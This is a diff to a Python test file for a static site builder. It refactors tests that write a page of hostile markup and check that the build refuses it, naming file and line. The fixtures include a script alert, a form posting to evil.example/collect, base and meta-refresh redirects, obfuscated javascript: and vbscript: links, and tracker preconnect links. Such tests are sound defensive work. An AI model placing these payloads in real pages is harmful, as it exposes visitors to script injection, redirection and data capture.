@@ -176,16 +176,21 @@ def _build_output(project: Path) -> tuple[int, str]:
     return result.returncode, output
 
 
-def test_build_refuses_unsafe_markup_in_a_prose_page(tmp_path):
+def _refused_page_build(tmp_path, *blocks: str) -> str:
+    """Build the fixture site with docs/evil.md holding these blocks (from line 5, two lines
+    apart); the build must stop. Its output."""
     project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
-    (project / "docs" / "evil.md").write_text(
-        "# Evil\n\nText.\n\n"
-        '<script type="application/x-javascript">alert(1)</script>\n\n'
-        '<form action="https://evil.example/collect"><input name="q"></form>\n\n'
-        '<base href="https://evil.example/">\n\n'
-        '<meta http-equiv="refresh" content="0; url=https://evil.example/">\n')
+    (project / "docs" / "evil.md").write_text("# Evil\n\nText.\n\n" + "\n\n".join(blocks) + "\n")
     code, output = _build_output(project)
     assert code != 0
+    return output
+
+
+def test_build_refuses_unsafe_markup_in_a_prose_page(tmp_path):
+    output = _refused_page_build(tmp_path, '<script type="application/x-javascript">alert(1)</script>',
+                                 '<form action="https://evil.example/collect"><input name="q"></form>',
+                                 '<base href="https://evil.example/">',
+                                 '<meta http-equiv="refresh" content="0; url=https://evil.example/">')
     for words in ("docs/evil.md:5: <script", "scripts are not allowed", "docs/evil.md:7: <form",
                   "forms are not allowed", "docs/evil.md:9: <base", "<base> is not allowed",
                   "docs/evil.md:11: <meta", "<meta> is not allowed"):
@@ -352,15 +357,10 @@ def test_build_refuses_hostile_files_in_docs_naming_file_and_line(tmp_path):
 
 
 def test_build_refuses_markup_in_a_page_at_its_line(tmp_path):
-    project = copy_project(tmp_path / "p", data=FIXTURE_DATA)
-    (project / "docs" / "evil.md").write_text(
-        "# Evil\n\nText.\n\n"
-        '<a href="&#106;avascript:alert(1)">here</a>\n\n'
-        "[there](vb&#115;cript:msgbox)\n\n"
-        '<link rel="dns-prefetch" href="//tracker.example">\n\n'
-        '<link rel="preconnect" href="https://tracker.example">\n')
-    code, output = _build_output(project)
-    assert code != 0
+    output = _refused_page_build(tmp_path, '<a href="&#106;avascript:alert(1)">here</a>',
+                                 "[there](vb&#115;cript:msgbox)",
+                                 '<link rel="dns-prefetch" href="//tracker.example">',
+                                 '<link rel="preconnect" href="https://tracker.example">')
     for words in ("docs/evil.md:5: <a href=\"&#106;avascript:alert(1)\">: href=: 'javascript:' addresses",
                   "docs/evil.md:7: ",
                   "docs/evil.md:9: <link rel=\"dns-prefetch\" href=\"//tracker.example\">: <link> is not allowed",
